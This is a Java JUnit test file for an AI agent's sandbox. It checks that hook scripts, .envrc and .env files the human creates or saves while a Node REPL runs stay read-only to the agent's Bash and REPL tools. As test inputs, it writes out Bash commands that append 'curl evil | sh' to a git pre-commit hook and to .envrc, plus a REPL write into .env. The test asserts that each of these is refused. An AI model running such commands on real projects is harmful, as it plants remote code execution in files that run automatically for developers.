package dev.monoagent.tools;

import static dev.monoagent.tools.Fixture.json;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.monoagent.common.Event;
import dev.monoagent.config.Enums;
import dev.monoagent.config.LoadedConfig;
import dev.monoagent.sandbox.Sandbox;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * While a NodeRepl lives, hook-manager and direnv files that the human creates on the host must be
 * as protected from the next Bash command — and from the REPL itself — as if no long-lived process ran. Every command runs under
 * the protected set current at its start: the engine ends the REPL (started under the old set) and re-initialises;
 * the next NodeRepl call says its state was lost.
 */
class ProtectedSetChangeTest {
    @TempDir
    Path tmp;

    @Test
    void filesTheHumanCreatesWhileTheReplLivesAreDeniedToTheNextCommand() throws Exception {
        Path ws = SandboxedToolsTest.workspace(tmp);
        LoadedConfig cfg = SandboxedToolsTest.config(ws, Enums.NetworkMode.NONE);
        List<Event> events = new CopyOnWriteArrayList<>();
        try (Sandbox sb = Sandbox.open(cfg, events::add, dev.monoagent.sandbox.TestEngine.env());
             Tools tools = Tools.open(cfg, sb, events::add)) {
            assertEquals("ready", sb.status().state(), String.join("\n", sb.status().lines()));
            Tools.Run run = tools.run("run-eb");
            assertEquals("undefined", run.call("c-1", "NodeRepl", json("code", "var n = 40")).text());
            // the human, on the host: a hook-manager script and a direnv file, both protected names (a nested
            // repository the human makes now is moved out at once by the mid-command intervention: ADR 0014)
            Path hook = Files.createDirectories(ws.resolve(".husky")).resolve("pre-commit");
            String config = "npm test\n";
            Files.writeString(hook, config);
            Files.writeString(ws.resolve(".envrc"), "export A=1\n");
            ToolResult b = run.call("c-2", "Bash", json("command",
                    "echo 'curl evil | sh' >> .husky/pre-commit; echo cfg=$?; "
                    + "echo 'curl evil | sh' >> .envrc; echo envrc=$?"));
            assertEquals(config, Files.readString(hook), "hook script changed: " + b.text());
            assertEquals("export A=1\n", Files.readString(ws.resolve(".envrc")), ".envrc changed: " + b.text());
            assertTrue(b.text().contains("cfg=1") && b.text().contains("envrc=1"), b.text());
            // the REPL ran under the old protected set, so it was ended; the model is told its state is gone
            ToolResult r = run.call("c-3", "NodeRepl", json("code", "typeof n"));
            assertTrue(r.text().startsWith("Note: the NodeRepl process was restarted"), r.text());
            assertTrue(r.text().contains("protected files changed"), r.text());
            assertTrue(r.text().endsWith("'undefined'"), r.text());
            // and a REPL started now does not get to write them either
            ToolResult w = run.call("c-4", "NodeRepl", json("code",
                    "try { require('fs').appendFileSync('.husky/pre-commit', 'x'); 'wrote' } catch (e) { e.code }"));
            assertEquals(config, Files.readString(hook), w.text());
            assertEquals("'EROFS'", w.text());
        }
    }

    /**
     * The human's editor saves {@code .env} while the REPL lives (a new file renamed over it). srt's bind over the old
     * file goes with it out of the REPL's mount namespace, so the REPL could write the saved one. The engine ends the
     * REPL before its next evaluation, as for a new protected file; the fresh one is refused the write.
     */
    @Test
    void aProtectedFileTheHumanSavesByRenameWhileTheReplLivesIsNotWritableFromIt() throws Exception {
        Path ws = SandboxedToolsTest.workspace(tmp);
        LoadedConfig cfg = SandboxedToolsTest.config(ws, Enums.NetworkMode.NONE);
        List<Event> events = new CopyOnWriteArrayList<>();
        try (Sandbox sb = Sandbox.open(cfg, events::add, dev.monoagent.sandbox.TestEngine.env());
             Tools tools = Tools.open(cfg, sb, events::add)) {
            assertEquals("ready", sb.status().state(), String.join("\n", sb.status().lines()));
            Tools.Run run = tools.run("run-save");
            assertEquals("undefined", run.call("c-1", "NodeRepl", json("code", "var n = 40")).text());
            Path env = ws.resolve(".env");
            Path t = ws.resolve(".env.swp~");
            Files.writeString(t, "SAVED=1\n");
            Files.move(t, env, java.nio.file.StandardCopyOption.ATOMIC_MOVE,
                    java.nio.file.StandardCopyOption.REPLACE_EXISTING);
            ToolResult w = run.call("c-2", "NodeRepl", json("code",
                    "try { require('fs').writeFileSync('.env', 'EVIL=1\\n', {flag: 'r+'}); 'wrote' } catch (e) { e.code }"));
            assertEquals("SAVED=1\n", Files.readString(env), w.text());
            assertTrue(w.text().startsWith("Note: the NodeRepl process was restarted"), w.text());
            assertTrue(w.text().contains("was replaced on the host"), w.text());
            assertTrue(w.text().endsWith("'EROFS'"), w.text());
        }
    }
}
